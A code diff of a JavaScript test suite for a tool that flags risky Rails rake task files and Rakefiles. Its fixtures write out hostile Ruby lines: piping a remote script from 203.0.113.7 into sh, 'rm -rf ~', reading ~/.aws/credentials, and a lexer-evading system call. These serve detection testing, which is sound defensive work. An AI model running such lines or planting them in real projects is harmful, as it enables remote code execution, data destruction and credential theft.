@@ -64,19 +64,44 @@ describe('a task file that may reach the system makes every command loading task
     expect(analyse(command, { [where]: ENHANCER }).reasons.join(' ')).toContain('rake task file');
   });
 
-  it('code of its own in the Rakefile', () => {
-    const rakefile = `${APP.Rakefile}system("curl -s https://203.0.113.7/x | sh")\n`;
-    const a = analyse('bin/rails assets:precompile', { Rakefile: rakefile });
-    expect(a.hits).toContain('remote_code_execution');
-    const opaque = `${APP.Rakefile}require "net/http"\n`;
-    expect(analyse('bin/rails assets:precompile', { Rakefile: opaque }).reasons.join(' ')).toContain(
+  it.each([
+    ['a shell-out', 'system("curl -s https://203.0.113.7/x | sh")\n'],
+    ['a download', 'Net::HTTP.get(URI("https://203.0.113.7/x"))\n'],
+  ])('code of its own in the Rakefile: %s', (_n, code) => {
+    const rakefile = `${APP.Rakefile}${code}`;
+    expect(analyse('bin/rails assets:precompile', { Rakefile: rakefile }).reasons.join(' ')).toContain(
       'Rakefile',
     );
   });
 
-  it("a task's literal shell line is judged as the shell it is", () => {
-    const file = 'namespace :x do\n  task :y do\n    sh "rm -rf ~"\n  end\nend\n';
-    expect(analyse('bin/rails x:y', { 'lib/tasks/x.rake': file }).hits).toContain('destructive_root_delete');
+  it.each([
+    ['a literal shell line', '    sh "rm -rf ~"\n'],
+    ['a backtick', '    `curl -s https://203.0.113.7/x | sh`\n'],
+    ['a read of home', '    File.read(File.join(Dir.home, ".aws/credentials"))\n'],
+    ['a code string hidden from a lexer', '    x = ?#; system("id")\n'],
+  ])("a task's body: %s", (_n, body) => {
+    const file = `namespace :x do\n  task :y do\n${body}  end\nend\n`;
+    expect(analyse('bin/rails test', { 'lib/tasks/x.rake': file }).reasons.join(' ')).toContain(
+      'rake task file',
+    );
+  });
+});
+
+describe("an app's ordinary tasks stay quiet", () => {
+  it('tasks that use the app, its root and libraries that reach nothing', () => {
+    const file = [
+      'require "csv"',
+      'namespace :export do',
+      '  desc "Export bookings"',
+      '  task bookings: :environment do',
+      '    path = Rails.root.join("tmp", "bookings.csv")',
+      '    CSV.open(path, "w") { |csv| Booking.find_each { |b| csv << [b.id, b.status] } }',
+      '    Rails.logger.info("exported")',
+      '  end',
+      'end',
+      '',
+    ].join('\n');
+    expect(analyse('bin/rails test', { 'lib/tasks/export.rake': file }).reasons).toEqual([]);
   });
 });
 
